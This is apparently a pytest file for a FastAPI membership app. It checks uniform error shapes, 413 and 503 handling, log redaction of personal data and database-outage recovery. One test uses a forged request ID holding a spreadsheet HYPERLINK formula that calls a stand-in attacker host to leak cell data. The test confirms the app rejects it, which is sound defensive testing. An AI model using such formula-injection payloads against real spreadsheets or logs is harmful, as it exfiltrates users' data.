"""Errors in one shape: JSON for the API, a page for browsers, headers on every answer, each
unexpected error logged once, a lost or busy database answered 503 with Retry-After."""

from __future__ import annotations

import contextlib
import logging
import sqlite3
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from memberdesk.app import create_app
from memberdesk.compliance import auth
from memberdesk.compliance.models import AuditEntry
from memberdesk.config import Settings
from memberdesk.db import DbRoute, make_engine
from memberdesk.migrate import upgrade
from tests.dbutil import BACKENDS

SHAPE_KEYS = {"loc", "msg", "type"}


def assert_shape(body: dict) -> dict:
    """The one error shape: a list of {loc, msg, type}; returns the first item."""
    assert set(body) == {"detail"} and body["detail"], body
    for item in body["detail"]:
        assert set(item) == SHAPE_KEYS, item
        assert isinstance(item["loc"], list) and item["msg"]
    return body["detail"][0]


def test_unknown_api_route_is_a_json_404(anon) -> None:
    response = anon.get("/api/no-such-thing")
    assert response.status_code == 404
    assert assert_shape(response.json())["type"] == "not_found"


def test_business_and_validation_errors_share_the_shape(client) -> None:
    missing = client.get("/api/members/999999999")
    assert missing.status_code == 404 and assert_shape(missing.json())["loc"]
    invalid = client.get("/api/members/abc")
    assert invalid.status_code == 422 and assert_shape(invalid.json())["loc"] == [
        "path",
        "member_id",
    ]


def test_ids_beyond_64_bits_are_422_not_500(client) -> None:
    for path in ("/api/members/9223372036854775808", "/api/plans/9223372036854775808"):
        response = client.get(path)
        assert response.status_code == 422, (path, response.text)
        assert assert_shape(response.json())["loc"][0] == "path"


def test_pages_answer_errors_with_a_page_and_a_way_back(anon) -> None:
    response = anon.get("/no/such/page")
    assert response.status_code == 404
    assert response.headers["content-type"].startswith("text/html")
    assert "Page not found" in response.text and 'href="/"' in response.text
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]


def test_oversized_body_is_413(client) -> None:
    response = client.post("/api/members/search", content=b'{"phone":"' + b"1" * 2_000_000 + b'"}')
    assert response.status_code == 413
    assert assert_shape(response.json())["type"] == "too_large"


@pytest.fixture
def failing_app(app):  # type: ignore[no-untyped-def]
    """The app with one route that fails the way a bug would."""

    def boom() -> None:
        raise RuntimeError("a bug that mentions Hines 1970-10-27")

    app.router.add_api_route("/api/boom", boom, methods=["GET"], route_class_override=DbRoute)
    return app


def test_an_unexpected_error_is_logged_once_and_answered_with_headers(
    failing_app, caplog: pytest.LogCaptureFixture
) -> None:
    # raise_server_exceptions stays on: an exception escaping the app would fail this test.
    with TestClient(failing_app) as c, caplog.at_level(logging.INFO):
        response = c.get("/api/boom", headers={"X-Request-ID": "client-id-42"})
    assert response.status_code == 500
    body = assert_shape(response.json())
    assert "client-id-42" not in response.text and "Hines" not in response.text
    assert body["type"] == "internal"
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert response.headers.get("connection") != "close"
    errors = [r for r in caplog.records if r.levelno >= logging.ERROR]
    assert len(errors) == 1, [r.getMessage() for r in errors]
    assert "Exception in ASGI application" not in caplog.text


def test_access_log_names_the_route_not_the_raw_path(
    anon, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.INFO, logger="memberdesk.http"):
        anon.get("/members/Hines Harold DOB 10-27-1970")
        anon.get("/api/members/12345")
    lines = [r.getMessage() for r in caplog.records if r.name == "memberdesk.http"]
    assert lines and not any("Hines" in line or "1970" in line for line in lines)
    assert any("/api/members/{member_id}" in line for line in lines)


def test_a_forged_request_id_is_replaced_and_never_reaches_the_audit_log(client, db) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    response = client.post(
        "/api/members/search", json={"phone": "5551234567"}, headers={"X-Request-ID": formula}
    )
    assert response.status_code == 200
    rid = response.headers["x-request-id"]
    assert rid != formula and len(rid) == 32
    stored = db.scalars(select(AuditEntry.request_id).order_by(AuditEntry.id.desc())).first()
    assert stored == rid


def test_every_sync_route_ends_its_transaction_in_its_own_thread(app) -> None:
    from tests.compliance.test_permissions import flat

    sync_routes = [r for r in flat(app.routes) if not _is_async(r.endpoint)]
    assert len(sync_routes) > 30
    assert [r.path for r in sync_routes if not isinstance(r, DbRoute)] == []


def _is_async(fn) -> bool:  # type: ignore[no-untyped-def]
    import inspect

    return inspect.iscoroutinefunction(getattr(fn, "__wrapped__", fn))


def test_a_busy_sqlite_database_is_503_with_retry_after_and_recovers(
    tmp_path: Path, var_dir: Path
) -> None:
    settings = Settings(
        database_url=f"sqlite:///{tmp_path / 'busy.db'}",
        var_dir=var_dir,
        sqlite_busy_timeout_ms=200,
    )
    engine = make_engine(settings)
    upgrade(engine)
    app = create_app(settings, engine=engine, background=False)
    other = sqlite3.connect(tmp_path / "busy.db", isolation_level=None)
    try:
        with TestClient(app) as c:
            c.post("/api/auth/token", json={"username": "nobody-here", "password": "x" * 16})
            other.execute("BEGIN EXCLUSIVE")  # another process holds the database
            busy = c.post("/api/auth/token", json={"username": "nobody-here", "password": "x" * 16})
            assert busy.status_code == 503, busy.text
            assert busy.headers["retry-after"] == "5"
            assert assert_shape(busy.json())["type"] == "unavailable"
            other.execute("ROLLBACK")
            again = c.post(
                "/api/auth/token", json={"username": "nobody-here", "password": "x" * 16}
            )
            assert again.status_code == 401  # answered normally once the lock is gone
    finally:
        other.close()
        engine.dispose()


class Proxy:
    """A TCP relay in front of PostgreSQL that the test can cut and restore, as a network or
    server failure would."""

    def __init__(self, upstream: tuple[str, int]) -> None:
        import socket
        import threading

        self.upstream = upstream
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.open: list = []
        self.up = threading.Event()
        self.up.set()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        import socket
        import threading

        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            if not self.up.is_set():
                client.close()
                continue
            server = socket.create_connection(self.upstream)
            self.open += [client, server]
            for a, b in ((client, server), (server, client)):
                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()

    @staticmethod
    def _pipe(a, b) -> None:  # type: ignore[no-untyped-def]
        try:
            while data := a.recv(65536):
                b.sendall(data)
        except OSError:
            pass
        finally:
            for s in (a, b):
                with contextlib.suppress(OSError):
                    s.close()

    def cut(self) -> None:
        import socket

        self.up.clear()
        for s in self.open:
            try:
                s.shutdown(socket.SHUT_RDWR)
                s.close()
            except OSError:
                pass
        self.open.clear()

    def restore(self) -> None:
        self.up.set()

    def close(self) -> None:
        self.cut()
        self.listener.close()


@pytest.mark.skipif("postgresql" not in BACKENDS, reason="needs PostgreSQL")
def test_a_lost_postgresql_is_503_and_the_service_recovers_by_itself(
    var_dir: Path, tmp_path: Path
) -> None:
    from sqlalchemy.engine import make_url

    from tests.dbutil import fresh_database

    with fresh_database("postgresql", var_dir, tmp_path) as settings:
        url = make_url(settings.database_url)
        proxy = Proxy((url.host or "127.0.0.1", url.port or 5432))
        via = url.set(host="127.0.0.1", port=proxy.port).render_as_string(hide_password=False)
        proxied = settings.model_copy(update={"database_url": via, "pool_timeout_seconds": 2})
        engine = make_engine(proxied)
        app = create_app(proxied, engine=engine, background=False)
        try:
            with TestClient(app) as c:
                assert c.get("/healthz").status_code == 200
                proxy.cut()
                time.sleep(1.1)  # past the health check's one-second memory
                # Looking up a well-formed token needs the database too: 503, not "invalid".
                body = "x" * 43
                unknown = auth.TOKEN_PREFIX + body + auth._token_check(body)
                looked_up = c.get("/api/plans", headers={"Authorization": f"Bearer {unknown}"})
                assert looked_up.status_code == 503
                gone = c.get("/healthz")
                assert gone.status_code == 503
                assert gone.headers["retry-after"] == "5"
                assert "frame-ancestors 'none'" in gone.headers["content-security-policy"]
                proxy.restore()
                assert c.get("/healthz").status_code == 200  # no restart needed
        finally:
            proxy.close()
            engine.dispose()
